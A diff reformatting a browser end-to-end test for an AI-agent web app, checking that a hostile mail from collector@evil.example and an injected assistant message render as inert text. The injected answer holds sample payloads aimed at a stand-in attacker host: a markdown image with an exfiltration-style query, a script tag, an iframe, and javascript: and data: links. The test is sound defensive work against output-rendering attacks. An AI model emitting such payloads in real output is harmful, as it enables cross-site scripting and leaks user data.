@@ -25,7 +25,10 @@ describe("what the page shows of others' words", () => {
   });
 
   it("X3 is text: no link, no image, nothing fetched by showing it, and nothing hidden or turned around", async () => {
-    await bron.control("deliver", { account: "mara@lindqvist.example", mail: { ...hostile, to: "mara@lindqvist.example" } });
+    await bron.control("deliver", {
+      account: "mara@lindqvist.example",
+      mail: { ...hostile, to: "mara@lindqvist.example" },
+    });
     const page = await newPage(browser);
     const asked: string[] = [];
     const dialogs: string[] = [];
@@ -35,31 +38,59 @@ describe("what the page shows of others' words", () => {
       void dialog.dismiss();
     });
     await page.goto(bron.signInLink);
-    await page.getByLabel("What is to be done?").fill("Find the newest mail from collector@evil.example and tell me what it says.");
+    await page
+      .getByLabel("What is to be done?")
+      .fill("Find the newest mail from collector@evil.example and tell me what it says.");
     await page.getByRole("button", { name: "Begin" }).click();
     await untilState(page, "Done");
-    for (const details of await page.locator("details").all()) await details.evaluate((one) => one.setAttribute("open", ""));
+    for (const details of await page.locator("details").all())
+      await details.evaluate((one) => one.setAttribute("open", ""));
     const words = await page.locator("main").innerText();
     expect(words).toContain("evil.example");
     expect(words).toContain("\\u{202e}");
-    expect(await page.locator("main img, main iframe, main object, main svg image").count()).toBe(0);
+    expect(await page.locator("main img, main iframe, main object, main svg image").count()).toBe(
+      0,
+    );
     expect(await page.locator('a[href*="evil"], a[href^="javascript"]').count()).toBe(0);
 
     // The same in what a model says, whole and while it says it.
     const runId = page.url().split("/").at(-1) ?? "";
     const answer = `## Pay now\n\n[pay](https://evil.example/md "now") ${image} <script src=https://evil.example/s.js></script>\n\n[see][r] https://evil.example/bare\n\n- <iframe src=https://evil.example/f></iframe>\n- [a](javascript:alert(1)) [b](data:text/html,x)\n\n[r]: https://evil.example/ref`;
-    await addToLog(bron, runId, [{ type: "message", payload: { role: "assistant", content: answer, step: 90, final: false, parts: [] } }]);
+    await addToLog(bron, runId, [
+      {
+        type: "message",
+        payload: { role: "assistant", content: answer, step: 90, final: false, parts: [] },
+      },
+    ]);
     await page.reload();
     await page.getByRole("heading", { name: "Pay now" }).waitFor();
     const said = await page.locator("li").filter({ hasText: "Pay now" }).last().innerText();
-    for (const target of ["https://evil.example/md", "https://evil.example/p.png?d=61000", "https://evil.example/s.js", "https://evil.example/ref", "https://evil.example/f", "javascript:alert(1)", "data:text/html,x"]) expect(said, target).toContain(target);
-    expect(await page.locator("article").locator('img, iframe, script, object, embed, svg image, a[href*="evil"], a[href^="javascript"], a[href^="data"]').count()).toBe(0);
+    for (const target of [
+      "https://evil.example/md",
+      "https://evil.example/p.png?d=61000",
+      "https://evil.example/s.js",
+      "https://evil.example/ref",
+      "https://evil.example/f",
+      "javascript:alert(1)",
+      "data:text/html,x",
+    ])
+      expect(said, target).toContain(target);
+    expect(
+      await page
+        .locator("article")
+        .locator(
+          'img, iframe, script, object, embed, svg image, a[href*="evil"], a[href^="javascript"], a[href^="data"]',
+        )
+        .count(),
+    ).toBe(0);
 
     await page.getByRole("link", { name: "Simulated world" }).click();
     await page.getByRole("tab", { name: "Mail" }).click();
     await page.getByText("collector@evil.example").first().waitFor();
     expect(await page.locator('main img, a[href*="evil"]').count()).toBe(0);
-    expect(asked.filter((url) => new URL(url).origin !== new URL(bron.signInLink).origin)).toEqual([]);
+    expect(asked.filter((url) => new URL(url).origin !== new URL(bron.signInLink).origin)).toEqual(
+      [],
+    );
     expect(dialogs).toEqual([]);
   }, 120_000);
 });
